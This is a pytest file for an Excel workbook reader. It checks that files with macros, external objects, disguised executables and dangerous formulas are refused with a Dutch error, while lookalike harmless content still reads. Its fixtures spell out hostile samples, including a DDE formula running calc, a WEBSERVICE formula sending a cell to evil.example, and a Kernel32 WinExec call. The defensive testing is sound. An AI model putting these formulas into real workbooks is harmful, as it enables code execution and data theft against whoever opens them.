"""What could run or fetch something when somebody opens a workbook again is refused; what only looks like it is not."""

from __future__ import annotations

import pytest

from forms.readers.excel import read_excel
from forms.readers.workbook import ReadError
from tests.forms.readers.excel_files import CONTENT_TYPES, HEADER, WORKBOOK_RELATIONS, pack, sheet_xml

OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
OUTSIDE = 'TargetMode="External"'


def with_part(name: str, content: bytes) -> bytes:
    return pack(sheet_xml(HEADER), {name: content})


def related(kind: str, target: str, mode: str = OUTSIDE) -> bytes:
    entry = f'<Relationship Id="rIdX" Type="{OFFICE}/{kind}" Target="{target}" {mode}/></Relationships>'
    return with_part(
        "xl/worksheets/_rels/sheet1.xml.rels",
        f'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">{entry}'.encode(),
    )


def typed(kind: str) -> bytes:
    entry = f'<Override PartName="/xl/x.bin" ContentType="{kind}"/></Types>'
    return pack(sheet_xml(HEADER), {"[Content_Types].xml": CONTENT_TYPES.replace("</Types>", entry).encode()})


def formula(text: str) -> bytes:
    return pack(sheet_xml(HEADER + f'<row r="2"><c r="A2"><f>{text}</f><v>0</v></c></row>'))


ACTIVE = {
    "a macro under another name": lambda: typed("application/vnd.ms-office.vbaProject"),
    "a workbook with macros by its type": lambda: typed("application/vnd.ms-excel.sheet.macroEnabled.main+xml"),
    "an old macro sheet": lambda: typed("application/vnd.ms-excel.macrosheet+xml"),
    "a program as a picture": lambda: with_part("xl/media/x.png", b"MZ\x90\0"),
    "an old Office file as a picture": lambda: with_part("xl/media/x.png", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"),
    "a script in a picture": lambda: with_part("xl/media/x.svg", b"<svg><script>alert(1)</script></svg>"),
    "a picture from elsewhere": lambda: related("image", "http://evil.example/x.png"),
    "an object from elsewhere": lambda: related("oleObject", "http://evil.example/x"),
    "an object": lambda: related("oleObject", "../x.bin", ""),
    "a line to another program in an unusual place": lambda: related("externalLink", "../links/x.xml", ""),
    "a query": lambda: related("queryTable", "../queryTables/x.xml", ""),
    "a link to a file": lambda: related("hyperlink", "file:///c:/x.exe"),
    "a link to a share": lambda: related("hyperlink", "\\\\evil.example\\x"),
    "a formula to another program": lambda: formula("cmd|' /C calc'!A0"),
    "a formula that fetches": lambda: formula("_xlfn.WEBSERVICE(&quot;http://evil.example/&quot;&amp;A1)"),
    "a formula that runs": lambda: formula('CALL("Kernel32","WinExec","JCJ","calc",0)'),
}  # fmt: skip
HARMLESS = {
    "a link to a website": lambda: related("hyperlink", "https://www.example.nl/a?b=c"),
    "a link to a mailbox": lambda: related("hyperlink", "mailto:info@example.nl"),
    "a comment": lambda: related("comments", "../comments1.xml", ""),
    "a line in a text": lambda: formula('IF(A1="|","a","b")'),
    "a line in the name of a sheet": lambda: formula("'a|b'!A1"),
    "a function with such a name": lambda: formula("RECALL(A1)"),
}


@pytest.mark.parametrize("name", ACTIVE)
def test_what_is_active_is_refused_with_a_dutch_sentence(name):
    with pytest.raises(ReadError, match=r"^(Dit|In dit) Excel-bestand .*\.$"):
        read_excel(ACTIVE[name]())


@pytest.mark.parametrize("name", HARMLESS)
def test_what_only_looks_active_is_read(name):
    assert [sheet.name for sheet in read_excel(HARMLESS[name]()).sheets] == ["survey"]


def test_the_workbook_of_these_tests_is_read_as_it_is():
    assert read_excel(with_part("xl/worksheets/_rels/sheet1.xml.rels", WORKBOOK_RELATIONS.encode())).sheets
